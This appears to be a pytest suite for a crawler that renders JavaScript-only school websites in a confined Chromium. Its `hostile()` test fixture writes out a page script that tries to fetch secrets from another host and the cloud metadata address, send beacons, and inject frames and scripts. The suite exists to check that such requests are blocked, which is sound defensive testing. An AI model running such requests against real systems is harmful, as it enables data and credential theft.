"""Pages that need a browser: drawn by a real Chromium, and never let out of our hands."""

from __future__ import annotations

import datetime as dt
import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from crawler import browser
from crawler.archive import read_body
from crawler.browser import chromium, may_load, missing
from crawler.model import CaptureRecord
from crawler.register import read_register
from crawler.settings import CrawlSettings
from crawler.urls import key_of
from tests.crawler.servers import Crawled, Page, Reply, Site, crawl, target
from tests.sites.county import build_county
from tests.sites.running import serve

SAMPLE = Path(__file__).resolve().parents[2] / "data" / "sample"
PAGES = 6
"""Pages drawn at one school in these tests."""

needs_browser = pytest.mark.skipif(bool(missing()), reason=f"no browser to test with: {missing()}")

SHELL = (
    "<!DOCTYPE html><html><head><title>School</title><script src='/app.js' defer></script></head>"
    "<body><noscript>You need to enable JavaScript to run this app.</noscript>"
    "<div id='root'></div></body></html>"
)
TEXT = "Our SEND Information Report tells how we help every child with special needs. " * 8
HOSTILE, EMPTY, ENDLESS, LARGE, PLAIN, BROKEN = 1, 2, 3, 4, 5, 6


def app(script: str, **more: Page) -> dict[str, Page]:
    """A website whose pages are drawn by one script."""
    pages: dict[str, Page] = {
        "/robots.txt": Reply(b"User-agent: *\nDisallow: /private", content_type="text/plain"),
        "/": SHELL,
        "/app.js": Reply(script.encode(), content_type="text/javascript"),
    }
    return pages | {f"/{name}": page for name, page in more.items()}


def shows(html: str) -> str:
    return f"document.getElementById('root').innerHTML = {json.dumps(html)};"


def hostile(there: str) -> str:
    """A script that tries every way out of its page, to `there` and to a private address."""
    return f"""
      fetch('{there}secret.json').catch(() => 0);
      fetch('http://169.254.169.254/latest/meta-data/').catch(() => 0);
      fetch('/private/notes.json').catch(() => 0);
      fetch('/send', {{method: 'POST', body: 'x'}}).catch(() => 0);
      navigator.sendBeacon('/beacon', 'x');
      new Image().src = '{there}pixel.png';
      new Image().src = '/picture.png';
      try {{ new WebSocket('{there.replace("http:", "ws:")}'); }} catch (error) {{ }}
      const frame = document.createElement('iframe');
      frame.src = '{there}';
      document.body.append(frame);
      setTimeout(() => frame.remove(), 100);
      const other = document.createElement('script');
      other.src = '{there}other.js';
      document.head.append(other);
      window.open('{there}');
      {shows(f"<p>{TEXT}</p>")}
      setTimeout(() => {{ location.href = '{there}'; }}, 150);
    """


@dataclass
class Scene:
    """One crawl over several websites, and what their servers were asked for."""

    archive: Path
    result: Crawled
    sites: dict[int, Site]
    elsewhere: Site

    def home(self, urn: int) -> CaptureRecord:
        return next(c for c in self.result.captures if c.url == self.sites[urn].url)


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
    elsewhere = Site({"/": "secret", "/secret.json": Reply(b"{}", content_type="application/json")})
    links = "".join(f"<p><a href='/send-{n}'>SEND {n}</a></p>" for n in range(PAGES + 2))
    plain = f"<html><body><h1>School</h1><p>{TEXT}</p><a href='/send'>SEND</a></body></html>"
    sites = {
        HOSTILE: Site(app(hostile(elsewhere.url))),
        EMPTY: Site(app("document.title = 'School';")),
        ENDLESS: Site(app("while (true) { }")),
        LARGE: Site(
            app(
                shows(f"<p>{TEXT}</p>{links}"),
                **{f"send-{n}": SHELL for n in range(PAGES + 2)},
            )
        ),
        BROKEN: Site(app(shows(f"<p>{TEXT}\ud83d</p><a href='/send'>SEND</a>"))),
        PLAIN: Site(app("x") | {"/": plain, "/send": plain}),
    }
    archive = tmp_path_factory.mktemp("drawn")
    targets = [target(urn, site.url) for urn, site in sites.items()]
    result = crawl(archive, targets, browser_pages=PAGES, browser_seconds=5.0)
    yield Scene(archive, result, sites, elsewhere)
    for site in (*sites.values(), elsewhere):
        site.close()


@needs_browser
def test_a_website_that_is_one_script_is_searched_to_its_documents(tmp_path: Path) -> None:
    today = dt.datetime.now(dt.UTC).date()
    county = build_county(3, 1, today=today, data=SAMPLE, styles=("app",))
    with serve(county) as running:
        register, written = running.write(tmp_path)
        school = read_register(register).schools[0]
        result = crawl(tmp_path, [target(school.urn, school.website or "")])
        home = running.url(county.schools[0])
    documents = json.loads(written.read_text())["schools"][str(school.urn)]["documents"]
    wanted = {key_of(d["url"]) for d in documents if d["key"] in ("report", "policy", "plan")}
    assert len(wanted) >= 2
    assert wanted <= {key_of(c.url) for c in result.captures if c.outcome == "ok"}
    drawn = next(c for c in result.captures if key_of(c.url) == key_of(home))
    assert drawn.detail.startswith("drawn in Chromium ")
    _, body = read_body(tmp_path, drawn.warc_file, drawn.warc_offset)
    assert b"Welcome to" in body
    asked = [entry.path for entry in running.requests if entry.host == "school-0"]
    assert asked.count("/static/app.js") == 1


@needs_browser
def test_a_report_that_is_a_sway_is_read(tmp_path: Path) -> None:
    today = dt.datetime.now(dt.UTC).date()
    county = build_county(3, 1, today=today, data=SAMPLE, styles=("sway",))
    with serve(county) as running:
        register, written = running.write(tmp_path)
        school = read_register(register).schools[0]
        result = crawl(tmp_path, [target(school.urn, school.website or "")])
    documents = json.loads(written.read_text())["schools"][str(school.urn)]["documents"]
    (report,) = [document for document in documents if document["key"] == "report"]
    capture = next(c for c in result.captures if key_of(c.url) == key_of(report["url"]))
    assert capture.outcome == "ok"
    _, body = read_body(tmp_path, capture.warc_file, capture.warc_offset)
    assert body.decode().count("<h2>") > 5


@needs_browser
def test_a_page_cannot_reach_what_is_not_its_own(scene: Scene) -> None:
    assert scene.elsewhere.paths() == []
    asked = set(scene.sites[HOSTILE].paths()) - {"/sitemap.xml"}
    assert asked == {"/robots.txt", "/", "/app.js"}
    home = scene.home(HOSTILE)
    assert (home.outcome, home.final_url) == ("ok", home.url)
    _, body = read_body(scene.archive, home.warc_file, home.warc_offset)
    assert TEXT.strip().encode() in body


@needs_browser
@pytest.mark.parametrize("urn", [EMPTY, ENDLESS])
def test_a_page_that_stays_empty_or_never_ends_keeps_its_name(scene: Scene, urn: int) -> None:
    assert scene.result.visits[urn].outcome == "script-only"
    assert scene.result.visits[urn].stopped_because == "home page: needs a browser"


@needs_browser
def test_half_a_letter_in_a_drawn_page_loses_no_page(scene: Scene) -> None:
    home = scene.home(BROKEN)
    assert (home.outcome, scene.result.visits[BROKEN].outcome) == ("ok", "done")
    _, body = read_body(scene.archive, home.warc_file, home.warc_offset)
    assert TEXT.strip() in body.decode()


@needs_browser
def test_only_so_many_pages_of_a_school_are_drawn(scene: Scene) -> None:
    captures = [c for c in scene.result.captures if c.urn == LARGE]
    drawn = [c for c in captures if "drawn in Chromium" in c.detail]
    left = [c for c in captures if "no more pages are drawn here" in c.detail]
    assert len(drawn) == PAGES
    assert left
    assert {c.outcome for c in left} == {"script-only"}


@needs_browser
def test_a_page_with_text_and_links_never_goes_into_it(scene: Scene) -> None:
    assert "/app.js" not in scene.sites[PLAIN].paths()
    assert scene.result.visits[PLAIN].outcome == "done"


@needs_browser
def test_an_unchanged_drawing_is_not_kept_twice(scene: Scene) -> None:
    before = scene.home(LARGE)
    kept = {name: getattr(before, name) for name in ("sha256", "warc_file", "warc_offset")}
    site = scene.sites[LARGE]
    again = crawl(
        scene.archive,
        [target(LARGE, site.url, known={site.url: kept})],
        "second",
        browser_pages=1,
    ).of("/")
    assert again.outcome == "not-modified"
    assert (again.warc_file, again.warc_offset) == (before.warc_file, before.warc_offset)


def test_switched_off_the_visit_says_that_it_needs_a_browser(tmp_path: Path) -> None:
    site = Site(app(shows(f"<p>{TEXT}</p>")))
    try:
        result = crawl(tmp_path, [target(1, site.url)], browser_pages=0)
    finally:
        site.close()
    assert result.visits[1].outcome == "script-only"
    assert result.visits[1].stopped_because == "home page: needs a browser"
    assert site.paths() == ["/robots.txt", "/"]


def test_what_a_page_may_load() -> None:
    limits = CrawlSettings.model_validate({"browser_script_hosts": "builder.example.net"})
    page = "https://www.school.example.org/send"
    assert may_load("https://school.example.org/api/1.json", page, "xhr", limits)
    assert may_load("https://static.builder.example.net/a.js", page, "script", limits)
    assert not may_load("https://static.builder.example.net/a.json", page, "xhr", limits)
    assert not may_load("https://tracker.example.com/t.js", page, "script", limits)
    assert not may_load("https://notbuilder.example.net.example.com/a.js", page, "script", limits)


def test_a_browser_named_in_the_environment_goes_first(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    program = tmp_path / "my-chromium"
    program.write_text("#!/bin/sh\n")
    program.chmod(0o755)
    monkeypatch.setenv("SENDWATCH_CHROMIUM", str(program))
    assert chromium() == str(program)
    monkeypatch.setenv("SENDWATCH_CHROMIUM", str(tmp_path / "gone"))
    assert chromium() is None
    assert missing() == "no Chromium is installed"


def test_a_missing_extra_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(browser, "find_spec", lambda name: None)
    assert missing() == "the extra `browser` is not installed"
